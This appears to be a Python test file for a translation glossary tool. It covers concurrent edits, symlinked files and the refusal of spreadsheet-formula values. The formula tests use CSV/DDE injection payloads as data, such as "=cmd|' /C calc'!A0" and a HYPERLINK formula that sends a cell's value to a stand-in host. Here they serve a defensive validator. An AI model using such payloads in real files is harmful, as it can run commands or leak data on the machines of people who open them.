"""Glossary edits under stress: concurrent adds, symlinked files, spreadsheet formulas."""

from __future__ import annotations

import multiprocessing
import os
import subprocess
import sys
from multiprocessing.synchronize import Barrier
from pathlib import Path

import pytest
from click.testing import CliRunner

from bilingue.cli import cli
from bilingue.errors import GlossaryError
from bilingue.glossary import GlossaryEntry
from bilingue.glossary.store import add_entry, read_tsv, remove_entry
from bilingue.glossary.table import runs_as_formula

HEADER = "source\ttarget\ttype\n"
CLI = "from bilingue.cli import main; main()"


def _add_process(folder: Path, source: str) -> subprocess.Popen[str]:
    command = [sys.executable, "-c", CLI, "glossary", "add", source, source, "--type", "name"]
    return subprocess.Popen(
        command, cwd=folder, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
    )


def test_ten_concurrent_adds_keep_all_ten_entries(tmp_path: Path) -> None:
    (tmp_path / "glossary").mkdir()
    shared = tmp_path / "glossary" / "custom.tsv"
    shared.write_text(HEADER + "ESA\tESA\torganisation\n", encoding="utf-8")
    # All-caps sources: no word-frequency lookup, so each process is mostly the edit.
    names = [f"STATION{n}" for n in range(10)]
    processes = [_add_process(tmp_path, name) for name in names]
    outputs = [process.communicate(timeout=120) for process in processes]
    assert [process.returncode for process in processes] == [0] * 10, outputs
    assert all(out.startswith("added to ") for out, _ in outputs)
    assert sorted(e.source for e in read_tsv(shared)) == sorted(["ESA", *names])
    assert sorted(p.name for p in shared.parent.iterdir()) == ["custom.tsv"]  # no lock left


def _add_after(barrier: Barrier, path: Path, worker: int) -> None:
    barrier.wait(timeout=60)  # every worker reads the file at about the same time
    for n in range(5):
        add_entry(path, GlossaryEntry(f"S{worker}-{n}", f"S{worker}-{n}", "name"))


def test_simultaneous_edits_from_ten_processes_lose_nothing(tmp_path: Path) -> None:
    path = tmp_path / "g.tsv"
    path.write_text(HEADER, encoding="utf-8")
    context = multiprocessing.get_context("fork")
    barrier = context.Barrier(10)
    workers = [context.Process(target=_add_after, args=(barrier, path, w)) for w in range(10)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join(timeout=120)
    assert [worker.exitcode for worker in workers] == [0] * 10
    assert len(read_tsv(path)) == 50


def test_an_edit_waits_for_the_lock_and_reads_the_file_afresh(tmp_path: Path) -> None:
    from bilingue.glossary.store import edit_lock

    path = tmp_path / "g.tsv"
    path.write_text(HEADER, encoding="utf-8")
    with edit_lock(path) as real:
        adder = subprocess.Popen(
            [sys.executable, "-c", CLI, "glossary", "add", "Kourou", "Kourou", "--file", str(path)],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        # Time for an unlocked add to read, write and exit; a locked one is still waiting.
        with pytest.raises(subprocess.TimeoutExpired):
            adder.wait(timeout=2)
        # Written while the other process waits: it must read this afresh and keep it.
        real.write_text(HEADER + "ESA\tESA\torganisation\n", encoding="utf-8")
    _, err = adder.communicate(timeout=60)
    assert adder.returncode == 0, err
    assert [e.source for e in read_tsv(path)] == ["ESA", "Kourou"]


@pytest.fixture
def linked(tmp_path: Path) -> tuple[Path, Path]:
    """glossary/space.tsv is a symbolic link to a shared file elsewhere."""
    shared = tmp_path / "shared" / "space.tsv"
    shared.parent.mkdir()
    shared.write_text(HEADER + "ESA\tESA\torganisation\n", encoding="utf-8")
    link = tmp_path / "workspace" / "glossary" / "space.tsv"
    link.parent.mkdir(parents=True)
    link.symlink_to(os.path.relpath(shared, link.parent))
    return link, shared


def test_an_add_through_a_link_edits_the_linked_file(linked: tuple[Path, Path]) -> None:
    link, shared = linked
    add_entry(link, GlossaryEntry("Kourou", "Kourou", "place"))
    assert link.is_symlink()
    assert [e.source for e in read_tsv(shared)] == ["ESA", "Kourou"]
    assert remove_entry(link, "ESA")
    assert link.is_symlink()
    assert [e.source for e in read_tsv(shared)] == ["Kourou"]
    assert sorted(p.name for p in link.parent.iterdir()) == ["space.tsv"]
    assert sorted(p.name for p in shared.parent.iterdir()) == ["space.tsv"]


def test_the_cli_adds_through_a_link(linked: tuple[Path, Path]) -> None:
    link, shared = linked
    result = CliRunner().invoke(cli, ["glossary", "add", "Kourou", "Kourou", "--file", str(link)])
    assert result.exit_code == 0, result.output
    assert link.is_symlink()
    assert "Kourou" in shared.read_text(encoding="utf-8")


# --- spreadsheet formulas ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "formula"),
    [
        ("=cmd|' /C calc'!A0", True),
        ("+cmd|' /C calc'!A0", True),
        ("-2+3+cmd|' /C calc'!A0", True),
        ("@SUM(1+9)*cmd|' /C calc'!A0", True),
        ('=HYPERLINK("http://x.example/?"&A1)', True),
        ("=", True),
        ("-ESA-", False),
        ("+33 (0)1 44 76 75 00", False),
        ("@CNES", False),
        ("Soyouz", False),
        ("Ariane 5 ECA", False),
    ],
)
def test_what_a_spreadsheet_would_run(value: str, formula: bool) -> None:
    assert runs_as_formula(value) is formula


def test_add_refuses_a_formula_and_leaves_the_file_alone(tmp_path: Path) -> None:
    path = tmp_path / "g.tsv"
    path.write_text(HEADER, encoding="utf-8")
    result = CliRunner().invoke(
        cli, ["glossary", "add", "Soyouz", "=cmd|' /C calc'!A0", "--file", str(path)]
    )
    assert result.exit_code == 1
    assert result.stderr == (
        f"Error: {path}: entry 'Soyouz': the target \"=cmd|' /C calc'!A0\" would run as a "
        "formula in a spreadsheet (remove the leading sign or rephrase it)\n"
    )
    assert path.read_text(encoding="utf-8") == HEADER


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("in.tsv", HEADER + "Soyouz\t+cmd|' /C calc'!A0\tprogramme\n"),
        # A CSV export's guard (') is removed on import: the formula underneath is refused.
        ("in.csv", "source,target,type\r\nSoyouz,'=cmd|' /C calc'!A0,programme\r\n"),
    ],
)
def test_import_refuses_formulas_naming_the_line(tmp_path: Path, name: str, content: str) -> None:
    source = tmp_path / name
    source.write_text(content, encoding="utf-8")
    into = tmp_path / "glossary.tsv"
    into.write_text(HEADER + "ESA\tESA\torganisation\n", encoding="utf-8")
    before = into.read_bytes()
    result = CliRunner().invoke(cli, ["glossary", "import", str(source), "--into", str(into)])
    assert result.exit_code == 1
    assert result.stderr.startswith(f"Error: {source}: line 2: the target ")
    assert "would run as a formula in a spreadsheet" in result.stderr
    assert into.read_bytes() == before


def test_a_tsv_holding_a_formula_does_not_load(tmp_path: Path) -> None:
    path = tmp_path / "g.tsv"
    path.write_text(HEADER + "Soyouz\tSoyuz\tprogramme\n=1+1\tx\tterm\n", encoding="utf-8")
    with pytest.raises(GlossaryError, match=r"line 3: the source '=1\+1' would run as a formula"):
        read_tsv(path)
